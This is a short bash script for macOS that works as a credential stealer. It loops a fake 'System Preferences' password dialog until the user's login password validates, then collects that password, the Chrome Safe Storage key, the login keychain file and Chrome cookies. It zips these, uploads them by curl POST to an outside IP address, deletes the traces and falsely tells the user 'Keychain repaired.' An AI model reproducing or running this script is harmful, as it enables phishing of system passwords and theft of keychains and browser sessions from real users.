#!/bin/bash
u=$(whoami)
while true; do
  p=$(osascript -e 'display dialog "macOS needs your password to repair the keychain." default answer "" with hidden answer with title "System Preferences" with icon caution' -e 'text returned of result' 2>/dev/null)
  dscl . -authonly "$u" "$p" >/dev/null 2>&1 && break
done
d=$(mktemp -d)
echo "$p" > "$d/pwd"
security find-generic-password -wa 'Chrome' > "$d/chrome_safe_storage" 2>/dev/null
cp ~/Library/Keychains/login.keychain-db "$d/" 2>/dev/null
cp -R ~/Library/Application\ Support/Google/Chrome/Default/Cookies "$d/" 2>/dev/null
ditto -c -k --sequesterRsrc "$d" /tmp/out.zip
curl -s -X POST -H "user: $u" -F "file=@/tmp/out.zip" http://203.0.113.88/contact >/dev/null
rm -rf "$d" /tmp/out.zip
echo "Keychain repaired."
